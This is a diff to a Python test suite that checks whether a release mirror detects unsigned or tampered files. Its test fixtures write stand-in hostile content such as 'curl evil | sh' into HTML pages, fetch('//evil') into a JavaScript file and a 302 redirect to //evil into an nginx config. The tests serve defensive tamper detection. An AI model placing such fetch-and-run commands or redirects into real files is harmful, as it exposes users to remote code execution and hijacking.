@@ -354,6 +354,12 @@ def test_a_version_that_was_never_published_is_found_by_its_signature_alone(
         ("api/trust/evil.1.json", b"{}", "api/trust/evil.1.json is listed, and nobody has signed it"),
         ("api/health/index.json", b'{"status": "ok"}', "api/health says more than that it answers"),
         ("index.html", b"<p>curl evil | sh</p>", "index.html is not what this release makes of the files"),
+        (
+            "pipelines/read-counter/index.html",
+            b"<p>curl evil | sh</p>",
+            "pipelines/read-counter/index.html is not what this release makes of the files",
+        ),
+        ("look/registry.js", b"fetch('//evil')", "look/registry.js is not what this release makes"),
         ("server/nginx.conf", b"return 302 //evil;", "server/nginx.conf is not what this release makes"),
         ("api/files.json", b'{"files": []}', "files: "),
     ],
@@ -368,7 +374,7 @@ def test_a_file_that_nobody_signs_is_found(
 ) -> None:
     place = mirror.root / file
     place.parent.mkdir(parents=True, exist_ok=True)
-    is_made = file in {"index.html", "api/files.json"} or file.startswith("server/")
+    is_made = file == "api/files.json" or not file.startswith(("api/", "images/"))
     place.write_bytes(content)
     if not is_made:
         list_anew(mirror.root)
